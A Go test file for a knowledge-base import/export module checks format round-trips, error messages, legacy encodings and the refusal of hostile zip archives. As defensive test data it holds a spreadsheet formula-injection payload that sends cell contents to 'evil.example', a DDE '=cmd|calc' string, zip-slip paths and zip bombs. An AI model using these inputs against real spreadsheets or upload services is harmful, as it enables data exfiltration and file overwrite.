package documents_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"frontdesk/internal/identity"
	"frontdesk/internal/integration/documents"
	"frontdesk/kb"
	"frontdesk/kb/kbtest"
)

var formats = []kb.Format{kb.FormatJSONL, kb.FormatCSV, kb.FormatXLSX, kb.FormatMarkdown}

// shelf is a knowledge base in memory with its way in and out.
type shelf struct {
	*kb.Transfer

	service *kb.Service
	drafts  *draftBox
}

// draftBox keeps working copies.
type draftBox struct{ saved map[string]kb.Article }

func (d *draftBox) ImportDraft(_ context.Context, _ identity.Actor, a kb.Article) (kb.DraftOutcome, error) {
	if have, ok := d.saved[a.ID]; ok && have.Answer == a.Answer {
		return kb.DraftSame, nil
	}
	d.saved[a.ID] = a
	return kb.DraftSaved, nil
}

type noCrawler struct{}

func (noCrawler) Crawl(context.Context, string, kb.CrawlLimits, func(kb.Document) error) ([]string, error) {
	return nil, errors.New("no crawling here")
}

type failer interface {
	Helper()
	Fatal(args ...any)
	Fatalf(format string, args ...any)
}

func newShelf(t failer) *shelf {
	t.Helper()
	service, err := kb.NewService(kb.Config{Store: kbtest.NewStore(), Embedder: &kbtest.Embedder{}})
	if err != nil {
		t.Fatal(err)
	}
	box := &draftBox{saved: map[string]kb.Article{}}
	transfer, err := kb.NewTransfer(kb.TransferConfig{Knowledge: service, Drafts: box, Sheets: documents.Reader{UnpackedBytes: 8 << 20}, Documents: documents.Reader{UnpackedBytes: 8 << 20}, Crawler: noCrawler{}})
	if err != nil {
		t.Fatal(err)
	}
	return &shelf{Transfer: transfer, service: service, drafts: box}
}

func (s *shelf) in(ctx context.Context, name string, raw []byte, opts kb.ImportOptions) (kb.ImportReport, error) {
	opts.Site = 1
	return s.Import(ctx, identity.System(), kb.Source{Name: name, Content: bytes.NewReader(raw), Size: int64(len(raw))}, opts)
}

func (s *shelf) out(ctx context.Context, t failer, f kb.Format) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := s.Export(ctx, identity.System(), 1, f, &out); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// words are texts that formats like to spoil: formulas, quotes, markup, line breaks, lists.
func words() *rapid.Generator[string] {
	nasty := rapid.SampledFrom([]string{
		"=1+1", "+cmd", "-2", "@SUM(A1)", "'=x", "''@y", "'plain", "a,b", "a;b", "[\"x\"]", "[1]", "- item\n- other", "\"quoted\"", "'single'", "a: b", "#tag",
		"line one\nline two", "---", "退款,换货", "退款\n\n多久", "＝全角", "\ttab in", "true", "007", "1e5", "2026-01-01", "_x000D_", "<b>&amp;</b>", "a\n---\nb", "😀 emoji", "{x}", "null", "~", "| table |", "a\r\nb", "a\rb", "bell\x07", "\x1b[31m", "\ufffe",
	})
	return rapid.Custom(func(t *rapid.T) string {
		s := nasty.Draw(t, "nasty")
		if rapid.Bool().Draw(t, "more") {
			s += rapid.StringMatching(`[a-z中文,"'=\n;\[\]:#-]{0,12}`).Draw(t, "tail")
		}
		return "w" + s // never empty by its key, and beginning plainly half of the time
	})
}

func anyArticle(id string) *rapid.Generator[kb.Article] {
	return rapid.Custom(func(t *rapid.T) kb.Article {
		text := func(name string) string {
			s := words().Draw(t, name)
			if rapid.Bool().Draw(t, name+" bare") {
				if bare := strings.TrimSpace(s[1:]); strings.ContainsAny(bare, "abcdefghijklmnopqrstuvwxyz中文退款全角") {
					return bare
				}
			}
			return s
		}
		a := kb.Article{
			Site: 1, ID: id, Locale: rapid.SampledFrom([]string{"en", "zh-CN"}).Draw(t, "locale"), Title: text("title"), Answer: text("answer"),
			Audience: kb.Audience(rapid.IntRange(0, 2).Draw(t, "audience")), Floor: rapid.SampledFrom([]float64{0, 0.25, 1, 0.1 + 0.2}).Draw(t, "floor"),
			Handover: rapid.Bool().Draw(t, "handover"), Owner: rapid.SampledFrom([]string{"", "0190-user", "=owner"}).Draw(t, "owner"),
		}
		for range rapid.IntRange(1, 4).Draw(t, "questions") {
			a.Questions = append(a.Questions, text("question"))
		}
		for range rapid.IntRange(0, 3).Draw(t, "tags") {
			a.Tags = append(a.Tags, text("tag"))
		}
		if rapid.Bool().Draw(t, "has next") {
			a.Next = []string{rapid.SampledFrom([]string{"other", "=next", "a,b", "[x"}).Draw(t, "next")}
		}
		if rapid.Bool().Draw(t, "expires") {
			a.ExpiresAt = time.Unix(rapid.Int64Range(1_700_000_000, 4_000_000_000).Draw(t, "expiry"), 123_456_000).UTC()
		}
		return a
	})
}

func TestAnExportReadAgainChangesNothingAndFillsAnEmptySiteEqually(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		ctx := context.Background()
		s := newShelf(t)
		for i := range rapid.IntRange(1, 4).Draw(t, "articles") {
			id := rapid.SampledFrom([]string{"refund", "=cmd|calc", "a/b", "退款 时间", "CON", "..x", "a.en", "-x", "'@y", "README"}).Draw(t, "id") + fmt.Sprint(i)
			if _, err := s.service.Save(ctx, identity.System(), anyArticle(id).Draw(t, "article")); err != nil {
				t.Fatal(err)
			}
		}
		want := s.out(ctx, t, kb.FormatJSONL)
		for _, f := range formats {
			file := s.out(ctx, t, f)
			report, err := s.in(ctx, "", file, kb.ImportOptions{})
			if err != nil || report.Added+report.Changed != 0 || report.Format != f {
				t.Fatalf("%s read again: %+v, %v\n%s", f, report, err, want)
			}
			empty := newShelf(t)
			if _, err := empty.in(ctx, "", file, kb.ImportOptions{}); err != nil {
				t.Fatalf("%s into an empty site: %v", f, err)
			}
			if got := empty.out(ctx, t, kb.FormatJSONL); !bytes.Equal(got, want) {
				t.Fatalf("%s:\n%s\nwant\n%s", f, got, want)
			}
		}
	})
}

func TestNoCellOfAnExportIsAFormula(t *testing.T) {
	t.Parallel()
	s := newShelf(t)
	evil := []string{`=HYPERLINK("http://evil.example?"&A1,"x")`, "+1", "-1", "@SUM(1)", "\tx", "＝1"}
	for i, text := range evil {
		a := kb.Article{Site: 1, ID: fmt.Sprint("=id", i), Locale: "en", Title: text, Questions: []string{text + "q"}, Answer: text + " a", Tags: []string{text}, Owner: "=o"}
		if _, err := s.service.Save(t.Context(), identity.System(), a); err != nil {
			t.Fatal(err)
		}
	}
	raw := s.out(t.Context(), t, kb.FormatCSV)
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte("\xef\xbb\xbf")))).ReadAll()
	if err != nil || len(rows) != len(evil)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("a spreadsheet takes %q for a formula", cell)
			}
		}
	}
	book, err := excelize.OpenReader(bytes.NewReader(s.out(t.Context(), t, kb.FormatXLSX)))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	for row := range 7 {
		for _, col := range []string{"A", "B", "D", "E", "F"} {
			cell := fmt.Sprint(col, row+1)
			if f, err := book.GetCellFormula("Articles", cell); f != "" || err != nil {
				t.Errorf("%s has the formula %q, %v", cell, f, err)
			}
		}
	}
	if v, _ := book.GetCellValue("Articles", "B2"); v != evil[0] {
		t.Errorf("typed text needs no mark, got %q", v)
	}
}

func TestTheLongestArticleFitsIntoASpreadsheet(t *testing.T) {
	t.Parallel()
	s := newShelf(t)
	a := kb.Article{Site: 1, ID: "long", Locale: "zh-CN", Title: "长", Answer: strings.Repeat("答", kb.MaxAnswerRunes)}
	for i := range kb.MaxQuestions {
		a.Questions = append(a.Questions, fmt.Sprintf("%d%s", i, strings.Repeat("问", kb.MaxQuestionRunes-4)))
	}
	if _, err := s.service.Save(t.Context(), identity.System(), a); err != nil {
		t.Fatal(err)
	}
	for _, f := range formats {
		if report, err := s.in(t.Context(), "", s.out(t.Context(), t, f), kb.ImportOptions{}); err != nil || report.Unchanged != 1 {
			t.Errorf("%s: %+v, %v", f, report, err)
		}
	}
}

func TestWhatAFileDoesNotSayStays(t *testing.T) {
	t.Parallel()
	s := newShelf(t)
	a := kb.Article{Site: 1, ID: "a", Locale: "en", Title: "A", Questions: []string{"q"}, Answer: "x", Audience: kb.AudienceStaff, Handover: true, Floor: 0.9}
	if _, err := s.service.Save(t.Context(), identity.System(), a); err != nil {
		t.Fatal(err)
	}
	for name, file := range map[string]string{
		"jsonl":    `{"id":"a","title":"A","locale":"en","questions":["q"],"answer":"new from jsonl"}`,
		"csv":      "id,title,locale,questions,answer\na,A,en,q,new from csv\n",
		"markdown": "---\nid: a\ntitle: A\nlocale: en\nquestions: [q]\n---\nnew from markdown\n",
	} {
		if _, err := s.in(t.Context(), "a."+map[string]string{"jsonl": "jsonl", "csv": "csv", "markdown": "md"}[name], []byte(file), kb.ImportOptions{}); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		got, err := s.service.Get(t.Context(), identity.System(), 1, "a", "en")
		if err != nil || got.Audience != kb.AudienceStaff || !got.Handover || got.Floor != 0.9 || got.Answer != "new from "+name {
			t.Fatalf("%s opened a staff article: %+v, %v", name, got, err)
		}
	}
	if _, err := s.in(t.Context(), "a.csv", []byte("id,title,locale,questions,answer,audience\na,A,en,q,x,\n"), kb.ImportOptions{}); err != nil {
		t.Fatal(err)
	}
	if got, _ := s.service.Get(t.Context(), identity.System(), 1, "a", "en"); got.Audience != kb.AudiencePublic || !got.Handover {
		t.Fatalf("a column that is there counts, and only that: %+v", got)
	}
}

func TestEverythingThatIsWrongIsNamedByItsPlace(t *testing.T) {
	t.Parallel()
	book := excelize.NewFile()
	for i, row := range [][]any{{"id", "title", "locale", "questions", "answer"}, {"ok", "T", "en", "q", "a"}, {"bad", "", "en", "q", "a"}, {"bad2", "T", "de", "q", "a"}} {
		_ = book.SetSheetRow("Sheet1", fmt.Sprintf("A%d", i+1), &row)
	}
	workbook, err := book.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name string
		file []byte
		want []string
	}{
		{"a.jsonl", []byte(`{"id":"a"}` + "\n\n" + `{"id":"b","title":"B","locale":"xx","questions":["q"],"answer":"a"}`), []string{`line 1: "title" is missing`, `line 3: "locale" "xx"`}},
		{"a.csv", []byte("id,title,locale,questions,answer\na,,en,q,x\nb,B,en,q,x\nb,B,en,q,x\nc,C,en,\"\",x\n"), []string{`line 2: "title" is empty`, `line 4: id "b" in en already stands at line 3`, `line 5: "questions" is empty`}},
		{"a.csv", []byte("id,title,locale,questions,answer,floor\na,A,en,q,x,high\n"), []string{`line 2: "floor" "high" is no number`}},
		{"a.csv", []byte("id,title\na,A\n"), []string{`line 1: there is no column "locale"`}},
		{"a.csv", []byte("id,title,locale,questions,answer\na,\"A,en,q,x\n"), []string{`line 2: `}},
		{"a.xlsx", workbook.Bytes(), []string{`sheet "Sheet1", row 3: "title" is empty`, `sheet "Sheet1", row 4: "locale" "de"`}},
		{"x.md", []byte("---\nid: a\ncolour: red\n---\ntext"), []string{`"x.md", line 3: unknown field "colour"`}},
		{"x.md", []byte("---\nid: a\ntext"), []string{`"x.md", line 3: the front matter has no end`}},
		{"a.jsonl", []byte("[{}]"), []string{"a JSON list: write one article a line"}},
		{"a.xls", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1........"), []string{"save it as .xlsx"}},
		{"a.csv", []byte("id,title,locale,questions,answer\na,caf\xe9 cr\xe8me,en,q,x\n"), []string{"not UTF-8: save the file as UTF-8"}},
		{"a.bin", []byte{0, 1, 2, 3}, []string{"a kind of file that cannot be imported"}},
		{"a.csv", nil, []string{"the file is empty"}},
	} {
		s := newShelf(t)
		report, err := s.in(t.Context(), c.name, c.file, kb.ImportOptions{})
		var wrong *kb.ImportError
		if !errors.As(err, &wrong) || !errors.Is(err, kb.ErrInvalid) || !slices.Equal(report.Problems, wrong.Problems) {
			t.Errorf("%s: %v", c.name, err)
			continue
		}
		if len(wrong.Problems) != len(c.want) {
			t.Errorf("%s: %+v, want %q", c.name, wrong.Problems, c.want)
			continue
		}
		for i, p := range wrong.Problems {
			if text := strings.TrimPrefix(p.Where+": "+p.Reason, ": "); !strings.Contains(text, c.want[i]) {
				t.Errorf("%s: %q, want %q", c.name, text, c.want[i])
			}
		}
		if got := s.out(t.Context(), t, kb.FormatJSONL); len(got) != 0 {
			t.Errorf("%s stored something: %s", c.name, got)
		}
	}
}

func TestAHundredProblemsAreListedAndTheRestCounted(t *testing.T) {
	t.Parallel()
	file := "id,title,locale,questions,answer\n" + strings.Repeat("a,,en,q,x\n", 250)
	_, err := newShelf(t).in(t.Context(), "a.csv", []byte(file), kb.ImportOptions{})
	var wrong *kb.ImportError
	if !errors.As(err, &wrong) || len(wrong.Problems) != kb.MaxProblems || wrong.More != 150 || !strings.HasSuffix(err.Error(), "(and 249 more)") {
		t.Fatalf("%v", err)
	}
}

func TestWhatExcelWritesInChinaIsRead(t *testing.T) {
	t.Parallel()
	gbk := "\xb1\xe0\xba\xc5;\xb1\xea\xcc\xe2;\xd3\xef\xd1\xd4;\xce\xca\xcc\xe2;\xb4\xf0\xb0\xb8\r\nrefund;\xcd\xcb\xbf\xee;\xd6\xd0\xce\xc4;\"\xcd\xcb\xbf\xee\xb6\xe0\xbe\xc3\n\xca\xb2\xc3\xb4\xca\xb1\xba\xf2\xcd\xcb\";\xc8\xfd\xcc\xec\xa1\xa3\r\n"
	utf16 := []byte("\xff\xfe")
	for _, r := range "id\ttitle\tlocale\tquestions\tanswer\nrefund\t退款\tzh\t退款多久\t三天。\n" {
		utf16 = append(utf16, byte(r), byte(r>>8))
	}
	for name, file := range map[string][]byte{"GBK": []byte(gbk), "UTF-16": utf16} {
		s := newShelf(t)
		report, err := s.in(t.Context(), "a.csv", file, kb.ImportOptions{})
		if err != nil || report.Added != 1 || len(report.Warnings) != 1 || !strings.Contains(report.Warnings[0], name) {
			t.Fatalf("%s: %+v, %v", name, report, err)
		}
		got, err := s.service.Get(t.Context(), identity.System(), 1, "refund", "zh-CN")
		if err != nil || got.Title != "退款" || got.Answer != "三天。" || got.Questions[0] != "退款多久" {
			t.Fatalf("%s: %+v, %v", name, got, err)
		}
	}
}

func TestADryRunSaysWhatWouldChange(t *testing.T) {
	t.Parallel()
	s := newShelf(t)
	first := "id,title,locale,questions,answer\na,A,en,q,x\nb,B,en,r,y\n"
	if _, err := s.in(t.Context(), "a.csv", []byte(first), kb.ImportOptions{}); err != nil {
		t.Fatal(err)
	}
	before := s.out(t.Context(), t, kb.FormatJSONL)
	report, err := s.in(t.Context(), "a.csv", []byte("id,title,locale,questions,answer,note\na,A,en,q,x,\nb,B,en,\"r\nr2\",z,\nc,C,en,s,w,\n"), kb.ImportOptions{DryRun: true})
	if err != nil || report.Lines != 3 || report.Added != 1 || report.Changed != 1 || report.Unchanged != 1 || len(report.Warnings) != 1 {
		t.Fatalf("%+v, %v", report, err)
	}
	want := []kb.Change{
		{Where: "line 3", ID: "b", Locale: "en", Title: "B", Effect: kb.EffectChanged, Fields: []string{"questions", "answer"}},
		{Where: "line 5", ID: "c", Locale: "en", Title: "C", Effect: kb.EffectNew},
		{Where: "line 2", ID: "a", Locale: "en", Title: "A", Effect: kb.EffectUnchanged},
	}
	if fmt.Sprint(report.Preview) != fmt.Sprint(want) {
		t.Fatalf("preview %+v", report.Preview)
	}
	if after := s.out(t.Context(), t, kb.FormatJSONL); !bytes.Equal(before, after) {
		t.Fatal("a dry run changed something")
	}
}

func TestHostileZipsAreRefused(t *testing.T) {
	t.Parallel()
	pack := func(files map[string][]byte) []byte {
		var out bytes.Buffer
		w := zip.NewWriter(&out)
		for name, content := range files {
			f, err := w.Create(name)
			if err == nil {
				_, err = f.Write(content)
			}
			if err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		return out.Bytes()
	}
	many := map[string][]byte{}
	for i := range 20_001 {
		many[fmt.Sprint(i, ".md")] = nil
	}
	zeros := make([]byte, 10<<20)
	for name, c := range map[string]struct {
		file []byte
		want string
	}{
		"slip":           {pack(map[string][]byte{"../../etc/x.md": []byte("# T\n\ntext")}), "leads out of the folder"},
		"slip backslash": {pack(map[string][]byte{`..\..\x.md`: []byte("# T\n\ntext")}), "leads out of the folder"},
		"absolute":       {pack(map[string][]byte{"/etc/x.md": []byte("# T\n\ntext")}), "leads out of the folder"},
		"bomb markdown":  {pack(map[string][]byte{"a.md": zeros[:8<<20]}), "larger than 1024 KB"},
		"bomb xlsx":      {pack(map[string][]byte{"xl/workbook.xml": zeros}), "unpacks to more than"},
		"bomb docx":      {pack(map[string][]byte{"word/document.xml": zeros}), "unpacks to more than"},
		"many":           {pack(many), "more than 20000 files"},
		"nothing":        {pack(map[string][]byte{"a.txt": []byte("x")}), "without Markdown files"},
		"damaged":        {[]byte("PK\x03\x04 this is no zip at all"), "damaged zip"},
	} {
		if _, err := newShelf(t).in(t.Context(), "a.zip", c.file, kb.ImportOptions{}); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v, want %q", name, err, c.want)
		}
	}
}
